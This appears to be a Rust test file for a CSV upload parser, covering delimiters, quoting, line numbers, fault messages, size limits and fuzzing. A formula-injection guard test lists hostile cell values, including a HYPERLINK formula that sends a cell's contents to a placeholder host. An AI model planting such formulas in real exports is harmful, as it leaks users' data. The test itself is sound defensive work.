use proptest::prelude::*;

use super::*;

const SMALL: Limits = Limits {
    rows: 3,
    columns: 4,
    field_bytes: 10,
};

fn table(text: &str) -> Table<'_> {
    read(text.as_bytes(), Limits::UPLOAD).unwrap_or_else(|faults| panic!("{faults}"))
}

fn rows(text: &str) -> Vec<Vec<String>> {
    let table = table(text);
    let cells = |row: Row| (0..table.header().len()).map(|i| row.cell(i).to_owned()).collect();
    table.rows().map(cells).collect()
}

fn faults(bytes: &[u8], limits: Limits) -> String {
    read(bytes, limits).expect_err("a faulty file").to_string()
}

#[test]
fn comma_semicolon_and_tab_are_found_out_from_the_header() {
    for text in [
        "a,b\n1,2;3\n",
        "a;b\r\n1;2,3\r\n",
        "\u{feff}a\tb\r1\t2,3",
        "\"a,x,y\";b\n1;2",
    ] {
        assert_eq!(rows(text).len(), 1, "{text:?}");
        assert_eq!(table(text).header().len(), 2, "{text:?}");
    }
    assert_eq!(rows("only\nx\n"), [["x"]]);
}

#[test]
fn the_bom_belongs_to_no_name() {
    assert_eq!(table("\u{feff} external_id , name\n").header(), ["external_id", "name"]);
    assert_eq!(table("\u{feff}external_id,name\n").column("external_id"), Some(0));
}

#[test]
fn quoted_cells_hold_delimiters_quotes_and_line_breaks() {
    assert_eq!(rows("a,b\n\"x, \"\"y\"\"\r\nz\",2\n"), [["x, \"y\"\r\nz", "2"]]);
    assert_eq!(rows("a,b\n5\" pipe,\n"), [["5\" pipe", ""]]);
}

#[test]
fn each_cell_knows_its_line() {
    let table = table("a,b\r\n\"1\r\n1\",2\r\n\r\n,,\r\n3,4");
    let lines: Vec<_> = table
        .rows()
        .map(|row| (row.line(), row.line_of(0), row.line_of(1)))
        .collect();
    assert_eq!(lines, [(2, 2, 3), (6, 6, 6)]);
    let last = table.rows().last().expect("a row");
    assert_eq!(
        table.fault(&last, 1, "is no number").to_string(),
        "line 6, column b: is no number"
    );
}

#[test]
fn blank_lines_are_no_rows() {
    assert_eq!(
        rows("\n\na,b\n\n1,2\n , \n;;;\n".trim_end_matches(";;;\n")),
        [["1", "2"]]
    );
    assert_eq!(rows("a,b\n"), Vec::<Vec<String>>::new());
}

#[test]
fn all_faults_of_form_come_at_once_with_their_lines() {
    let text = faults(
        b"a,b,a,\n1,2\n1,2,3,4\n\"x\"y,2,3,4\n,,,,,\n1,2,3,4,5\n1,2,3,\"4\n",
        Limits::UPLOAD,
    );
    let expected = [
        "line 1: the header names `a` twice",
        "line 1: column 4 has no name in the header",
        "line 2: has 2 cells, but the header names 4 columns",
        "line 4: cell 1 goes on behind its closing quote",
        "line 6: has 5 cells, but the header names 4 columns",
        "line 7: the quote that opens cell 4 is never closed",
    ];
    assert_eq!(text.lines().collect::<Vec<_>>(), expected);
}

#[test]
fn what_is_no_csv_is_told_apart() {
    for (bytes, word) in [
        (&b"PK\x03\x04rest"[..], "workbook"),
        (b"\xD0\xCF\x11\xE0\xA1", "workbook"),
        (b"\x1F\x8B\x08", "gzip"),
        (b"\xFF\xFEa\0,\0", "UTF-16"),
        (b"a\0,\0b\0", "UTF-16"),
        (b"", "empty"),
        (b"\xEF\xBB\xBF\r\n\r\n", "empty"),
        (b"a,b\n1,M\xFCller\n", "line 2: is not UTF-8"),
        (b"a,b\n1,x\0y\n", "line 2: holds a NUL"),
    ] {
        let text = faults(bytes, Limits::UPLOAD);
        assert!(text.contains(word), "{text}");
    }
}

#[test]
fn a_file_beyond_the_limits_is_refused_with_the_limit() {
    assert!(read(b"a\n1\n2\n3\n", SMALL).is_ok());
    assert_eq!(
        faults(b"a\n1\n\n2\n3\n4\n5\n", SMALL),
        "line 6: here begins row 4, but 3 rows are the most: split the file"
    );
    assert_eq!(
        faults(b"a,b,c,d,e\n", SMALL),
        "line 1: the header names 5 columns, but 4 are the most"
    );
    assert_eq!(
        faults(b"a,b\n1,12345678901\n", SMALL),
        "line 2, column b: is longer than 10 bytes"
    );
    let many_columns = ",".repeat(1_000_000);
    assert!(faults(format!("a,b\n{many_columns}x\n").as_bytes(), SMALL).starts_with("line 2: has 1000001 cells"));
}

#[test]
fn a_thousand_faults_are_listed_and_the_rest_counted() {
    let file = format!("a,b\n{}", "x\n".repeat(1234));
    let faults = read(file.as_bytes(), Limits::UPLOAD).expect_err("a faulty file");
    assert_eq!((faults.list().len(), faults.more()), (1000, 234));
    assert!(faults.to_string().ends_with("\nand 234 more"));
}

#[test]
fn a_cell_that_would_begin_a_formula_is_guarded() {
    for text in [
        "=HYPERLINK(\"//e.test?\"&A1)",
        "\t=1+1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        "-5",
        "+1",
        "@x",
        "\r1",
        "\n1",
    ] {
        assert_eq!(guard(text), format!("'{text}"), "{text:?}");
    }
    for text in ["", "a=1", "5", "Müller", "a\",\"=1"] {
        assert_eq!(guard(text), text);
    }
}

proptest! {
    #[test]
    fn arbitrary_bytes_never_panic(bytes: Vec<u8>) {
        if let Ok(table) = read(&bytes, SMALL) {
            prop_assert!(table.rows().count() <= SMALL.rows);
        }
    }

    #[test]
    fn text_full_of_signs_never_panics_and_no_fault_is_lost(text in "[\"\",;\t\r\nab ü\u{feff}]*") {
        if let Ok(table) = read(text.as_bytes(), SMALL) {
            let columns = table.header().len();
            prop_assert!(table.rows().all(|row| row.0.cells.len() == columns && row.0.count == columns));
        }
    }

    #[test]
    fn what_was_written_is_read(
        cells in prop::collection::vec(prop::collection::vec("[^\0]*", 3), 0..20),
        delimiter in prop::sample::select(vec![',', ';', '\t']),
    ) {
        let line = |cells: &[String]| {
            let quoted: Vec<_> = cells.iter().map(|cell| format!("\"{}\"", cell.replace('"', "\"\""))).collect();
            quoted.join(&delimiter.to_string()) + "\r\n"
        };
        let header = line(&["a".to_owned(), "b".to_owned(), "c".to_owned()]);
        let file = cells.iter().fold(header, |file, row| file + &line(row));
        let trimmed = |row: &Vec<String>| row.iter().map(|cell| cell.trim().to_owned()).collect::<Vec<_>>();
        let kept = cells.iter().map(trimmed).filter(|row| row.iter().any(|cell| !cell.is_empty()));
        prop_assert_eq!(rows(&file), kept.collect::<Vec<_>>());
    }
}
